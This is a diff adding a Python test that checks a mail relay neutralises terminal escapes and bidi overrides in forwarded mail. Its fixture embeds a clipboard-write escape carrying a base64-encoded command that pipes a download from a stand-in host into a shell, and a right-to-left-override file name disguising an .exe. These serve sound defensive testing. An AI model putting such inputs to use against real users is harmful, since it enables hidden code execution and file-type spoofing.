@@ -244,3 +244,32 @@ def test_html_is_sanitised_before_anything_shows_or_forwards_it(tmp_path: Path) 
     _, plain, html = parts(notice.read_bytes().split(b"\r\n", 2)[2])
     assert "javascript:" not in plain and "document.cookie" not in plain
     assert "<script" not in html and "javascript:" not in html
+
+
+CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2028")
+
+
+def test_terminal_escapes_and_bidi_overrides_never_leave_in_headers_or_bodies(
+    relay_app: App, relay: Relay
+) -> None:
+    body = (
+        "Red: \x1b[31mALERT\x1b[0m\n"
+        "Clipboard: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n"
+        "CSI: \x9b2J\n"
+        "File: invoice\u202egpj.exe and \u2066isolated\u2069\n"
+        "\tindented line\u2028separated\n"
+    )
+    outcome = ingest(relay_app, make_mail(subject="Invoice \u202egpj.exe", body=body))
+    assert outcome.outcome == "created"
+    [ack] = relay.to("jan.kowalski@example.org")
+    [notice] = relay.to("anna@example.com")
+    for sent in (ack, notice):
+        msg, plain, html = parts(sent.raw)
+        subject = str(msg["Subject"])
+        assert "[U+202E]gpj.exe" in subject
+        for part in (subject, plain, html):
+            assert not any(char in part for char in CONTROLS), repr(part)
+    _, plain, html = parts(notice.raw)
+    assert "[31mALERT" in plain and "[U+202E]gpj.exe" in plain and "[U+2066]isolated" in plain
+    assert "\tindented line\nseparated" in plain  # tab and newline stay
+    assert "[U+202E]gpj.exe" in html
